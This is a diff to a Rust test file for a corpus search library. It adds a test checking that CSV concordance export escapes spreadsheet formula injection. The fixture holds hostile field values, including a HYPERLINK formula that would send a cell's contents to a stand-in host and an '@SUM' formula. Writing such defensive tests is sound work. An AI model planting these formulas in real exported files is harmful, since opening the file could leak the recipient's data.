@@ -1,11 +1,11 @@
-//! What must hold of corpora that are written for one test: of any amount.
+//! What must hold of corpora that are written for one test: of any amount, and of any id.
 
 #[path = "../../compiler/tests/folder/mod.rs"]
 mod folder;
 
 use vitrine_corpus::Image;
 use vitrine_corpus::model::ArchivedCorpus;
-use vitrine_search::{Request, search};
+use vitrine_search::{LineSort, Request, concordance, concordance_csv, search};
 
 use folder::Folder;
 
@@ -70,4 +70,26 @@ fn figures_below_zero_are_found_by_their_signs() {
     ] {
         assert_eq!(found(corpus, query), [expected], "{query}");
     }
+}
+
+/// An id is somebody else's word as much as a text is.
+#[test]
+fn no_id_is_run_as_a_formula() {
+    const ROWS: &str = r#"{"id": "=HYPERLINK(\"https://a.invalid/?\"&A1)", "doc": "@SUM(A1)", "text": "Grain came by ship."}
+{"id": "+1", "doc": "-1", "text": "Grain went by ship."}
+"#;
+    let folder = Folder::new("formulas", &[("rows.jsonl", ROWS)]);
+    let compiled = folder.compile();
+    let image = Image::open(&compiled.image).unwrap();
+    let corpus = image.corpus();
+    let results = search(corpus, &Request { query: "grain".to_owned(), ..Request::default() });
+    let lines = concordance(corpus, &results, LineSort::Corpus);
+    assert_eq!(lines.len(), 2);
+    let table = concordance_csv(corpus, &lines, 5, &|_| "=link".to_owned());
+    for row in table.lines().skip(1) {
+        for cell in row.split(',') {
+            assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '-', '@']), "{row}");
+        }
+    }
+    assert!(table.contains("\"'=HYPERLINK(\"\"https://a.invalid/?\"\"&A1)\""), "{table}");
 }
